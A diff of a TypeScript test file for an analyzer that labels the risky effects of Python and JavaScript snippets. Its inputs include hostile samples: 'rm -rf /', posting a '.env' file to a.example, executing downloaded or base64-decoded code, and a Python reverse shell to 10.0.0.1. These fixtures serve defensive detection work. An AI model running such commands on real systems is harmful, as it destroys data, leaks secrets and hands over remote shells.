@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { effectsOf, linesOf } from './read-program-for-test.ts'
+import { readProgramForTest, programLinesForTest } from './read-program-for-test.ts'
 
 const deletesRoot: readonly (readonly [string, string])[] = [
   ['python', `import os\nos.system('rm -rf /')`],
@@ -19,7 +19,7 @@ const deletesRoot: readonly (readonly [string, string])[] = [
 ]
 
 test.each(deletesRoot)('a %s program that deletes the root is read as that: %s', (language, text) => {
-  expect(linesOf(language, text)).toContain('delete / recursive')
+  expect(programLinesForTest(language, text)).toContain('delete / recursive')
 })
 
 const reads: readonly (readonly [string, string, string])[] = [
@@ -64,41 +64,46 @@ const reads: readonly (readonly [string, string, string])[] = [
 ]
 
 test.each(reads)('%s: %s is read', (language, text, line) => {
-  expect(linesOf(language, text)).toContain(line)
+  expect(programLinesForTest(language, text)).toContain(line)
 })
 
 test('a program that prints, computes and matches does nothing risky', () => {
-  expect(linesOf('python', `import re, json\nre.compile('x')\nmodel.eval()\nprint(json.dumps({}))`)).toEqual(
-    [],
-  )
-  expect(linesOf('javascript', `const r = /a/; r.exec('b'); app.get('/', x => x)`)).toEqual([])
+  expect(
+    programLinesForTest('python', `import re, json\nre.compile('x')\nmodel.eval()\nprint(json.dumps({}))`),
+  ).toEqual([])
+  expect(programLinesForTest('javascript', `const r = /a/; r.exec('b'); app.get('/', x => x)`)).toEqual([])
 })
 
 test('a file that is read into a name and posted is what the request sends', () => {
-  const lines = linesOf('python', `d = open('.env').read()\nrequests.post('https://a.example/c', data=d)`)
+  const lines = programLinesForTest(
+    'python',
+    `d = open('.env').read()\nrequests.post('https://a.example/c', data=d)`,
+  )
   expect(lines).toContain('connect https a.example POST file')
 })
 
 test('what was downloaded or decoded keeps its origin when it is executed', () => {
-  expect(linesOf('python', `exec(requests.get('http://a.example/x').text)`)).toContain(
+  expect(programLinesForTest('python', `exec(requests.get('http://a.example/x').text)`)).toContain(
     'execute python download',
   )
-  expect(linesOf('javascript', `eval(atob('cHJvY2Vzcy5leGl0KCk='))`)).toContain(
+  expect(programLinesForTest('javascript', `eval(atob('cHJvY2Vzcy5leGl0KCk='))`)).toContain(
     'execute javascript decoded read',
   )
 })
 
 test('a socket that becomes the streams of a shell is a shell over a connection', () => {
   const text = `s=socket.socket()\ns.connect(("10.0.0.1",4242))\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])`
-  expect(linesOf('python', text)).toContain('execute python unknown over connection')
+  expect(programLinesForTest('python', text)).toContain('execute python unknown over connection')
 })
 
 test('a path that is known only at run time is deleted as an unknown one', () => {
-  expect(linesOf('python', `shutil.rmtree(sys.argv[1])`)).toEqual(['delete unknown $sys recursive'])
+  expect(programLinesForTest('python', `shutil.rmtree(sys.argv[1])`)).toEqual([
+    'delete unknown $sys recursive',
+  ])
 })
 
 test('a text that doubles itself in every line is not followed without end', () => {
-  expect(linesOf('python', `a="xxxxxxxxxx"\n${'a=a+a\n'.repeat(2_000)}os.system(a)`)).toEqual([
+  expect(programLinesForTest('python', `a="xxxxxxxxxx"\n${'a=a+a\n'.repeat(2_000)}os.system(a)`)).toEqual([
     'execute shell unknown',
   ])
 })
@@ -121,18 +126,20 @@ const endless: readonly (readonly [string, string])[] = [
 test.each(endless)(
   'a %s program that opens %s again and again is read without end or error',
   (language, piece) => {
-    expect(() => effectsOf(language, piece.repeat(20_000))).not.toThrow()
+    expect(() => readProgramForTest(language, piece.repeat(20_000))).not.toThrow()
   },
 )
 
 test('what is nested too deep makes the program opaque', () => {
-  expect(linesOf('python', `os.system(${'['.repeat(500)}`)).toContain('opaque size everything')
-  expect(linesOf('javascript', `x = ${'await '.repeat(2_000)} y`)).toContain('opaque size everything')
+  expect(programLinesForTest('python', `os.system(${'['.repeat(500)}`)).toContain('opaque size everything')
+  expect(programLinesForTest('javascript', `x = ${'await '.repeat(2_000)} y`)).toContain(
+    'opaque size everything',
+  )
 })
 
 test('a program that does more work than its length allows is opaque, and what came before is read', () => {
   const text = `os.remove("a")\nx=["a"]*1\n${'x=x+x\n'.repeat(12)}${'z="".join(x);'.repeat(6_000)}`
-  expect(linesOf('python', text.replace('["a"]*1', `[${'"a",'.repeat(400)}]`))).toEqual([
+  expect(programLinesForTest('python', text.replace('["a"]*1', `[${'"a",'.repeat(400)}]`))).toEqual([
     'opaque size everything',
     'delete /home/user/project/a',
   ])
